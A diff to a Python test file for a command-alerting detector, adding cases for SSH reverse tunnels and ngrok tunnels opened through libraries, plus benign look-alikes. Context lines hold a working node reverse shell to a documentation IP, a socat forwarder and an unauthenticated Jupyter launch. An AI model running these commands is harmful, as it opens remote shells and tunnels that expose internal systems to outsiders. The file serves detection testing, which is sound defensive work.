@@ -64,6 +64,17 @@ def test_fetched_data_not_run(command):
     ("node -e \"var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/bash',['-i']);var c=net.createConnection(9001,'198.51.100.20',function(){c.pipe(sh.stdin);sh.stdout.pipe(c)})\"", 'reverse_shell_interpreter'),
     ("socat TCP-LISTEN:7000,bind=0.0.0.0,fork TCP:10.0.0.5:22", "netcat_listener"),
     ("jupyter notebook --ip=0.0.0.0 --NotebookApp.token= --allow-root", 'notebook_server_exposed'),
+    # tunnels built with a library: no ssh or ngrok command line
+    ("python3 - <<'EOF'\nimport paramiko\nc = paramiko.SSHClient()\nc.connect('203.0.113.5', username='u')\n"
+     "t = c.get_transport()\nt.request_port_forward('', 2222)\nEOF", "ssh_reverse_tunnel_in_code"),
+    ("python3 -c \"import asyncssh, asyncio\nasync def m():\n    async with asyncssh.connect('203.0.113.5') as c:\n"
+     "        await c.forward_remote_port('', 8080, 'localhost', 22)\nasyncio.run(m())\"", "ssh_reverse_tunnel_in_code"),
+    ("cat > /tmp/f.js <<'EOF'\nconst { Client } = require('ssh2');\nconst c = new Client();\n"
+     "c.on('ready', () => c.forwardIn('0.0.0.0', 8080, () => {})).connect({host: '203.0.113.5'});\nEOF",
+     "ssh_reverse_tunnel_in_code"),
+    ("python3 -c \"from sshtunnel import SSHTunnelForwarder; SSHTunnelForwarder(('203.0.113.5', 22), "
+     "remote_bind_address=('10.0.0.5', 5432)).start()\"", "tunnel_opened_in_code"),
+    ("python3 -c \"from pyngrok import ngrok; print(ngrok.connect(22, 'tcp').public_url)\"", "tunnel_opened_in_code"),
 ])
 def test_detected(command, rule):
     assert rule in alerts(command)
@@ -80,6 +91,8 @@ def test_detected(command, rule):
     "node -e \"const net = require('net'); net.createServer(s => s.end('ok')).listen(8080)\"",
     "jupyter lab --ip=0.0.0.0 --port=8888 --no-browser",
     "jupyter lab --ServerApp.token= --port 8888",
+    "python3 -c \"import paramiko; c = paramiko.SSHClient(); c.connect('10.0.0.5'); c.exec_command('uptime')\"",
+    "python3 -c \"import torch; y = model.forward(x); print(y.shape)\"",
 ])
 def test_not_alerted(command):
     assert alerts(command) == set()
